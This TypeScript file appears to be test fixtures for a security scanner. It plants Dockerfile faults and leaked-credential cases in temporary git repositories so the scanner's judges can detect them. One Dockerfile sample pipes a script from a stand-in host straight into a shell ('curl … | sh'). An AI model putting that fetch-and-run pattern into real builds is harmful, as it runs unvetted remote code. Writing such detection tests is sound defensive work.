// Plants credentials in a repository of its own, and faults in a Dockerfile.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import type { Finding } from "../finding.ts";
import { judgeDockerfile } from "../judge-dockerfile.ts";
import { judgeFolder, judgeRepository } from "../judge-repository.ts";
import { createSecretFinder } from "../secret-finder.ts";
import { plantedToken } from "./planted-secret.ts";

type Plant = () => Promise<readonly Finding[]>;

async function inFolder(judge: (root: string) => Promise<readonly Finding[]>): Promise<readonly Finding[]> {
  const root = mkdtempSync(path.join(tmpdir(), "security-scan-"));
  try {
    return await judge(root);
  } finally {
    rmSync(root, { recursive: true });
  }
}

/** Commits the files one after the other; undefined takes the file out again. */
const repository =
  (...commits: readonly (readonly [string, string | undefined])[]): Plant =>
  () =>
    inFolder(async (root) => {
      const git = (...args: string[]) =>
        execFileSync(
          "git",
          ["-C", root, "-c", "user.name=plant", "-c", "user.email=plant@localhost", ...args],
          {
            stdio: "ignore",
          },
        );
      git("init", "--quiet");
      for (const [file, text] of commits) {
        if (text === undefined) rmSync(path.join(root, file));
        else writeFileSync(path.join(root, file), text);
        git("add", "--all", "--force");
        git("commit", "--quiet", "--no-verify", "--message", "plant");
      }
      return (await judgeRepository(root, await createSecretFinder())).findings;
    });

const dockerfile =
  (text: string, ignore = "*\n!src\n"): Plant =>
  () =>
    inFolder(async (root) => {
      writeFileSync(path.join(root, "Dockerfile"), text);
      writeFileSync(path.join(root, ".dockerignore"), ignore);
      return judgeDockerfile(root, "Dockerfile");
    });

export const soundDockerfile = dockerfile("FROM node:24-slim\nCOPY src .\nUSER node\n");

export const repositoryPlants = {
  "dockerfile.user": dockerfile("FROM node:24-slim\nUSER node\nUSER root\n"),
  "dockerfile.base-pin": dockerfile("ARG BASE=node\nFROM ${BASE}\nUSER node\n"),
  "dockerfile.secret": dockerfile("FROM node:24-slim\nARG NPM_TOKEN\nUSER node\n"),
  "dockerfile.remote": dockerfile("FROM node:24-slim\nRUN curl -s https://x.example/i | sh\nUSER node\n"),
  "dockerfile.ignore": dockerfile("FROM node:24-slim\nUSER node\n", "node_modules\n"),
  "secrets.tree": repository(["notes.md", `line one\ntoken: ${plantedToken()}\n`]),
  "secrets.history": repository(["notes.md", `token: ${plantedToken()}\n`], ["notes.md", "nothing\n"]),
  "secrets.tracked-file": repository([".env", "LOG_LEVEL=info\n"]),
  "secrets.folder": () =>
    inFolder(async (root) => {
      mkdirSync(path.join(root, "secrets"), { mode: 0o755 });
      return judgeFolder(root, "secrets");
    }),
} as const satisfies Readonly<Record<string, Plant>>;
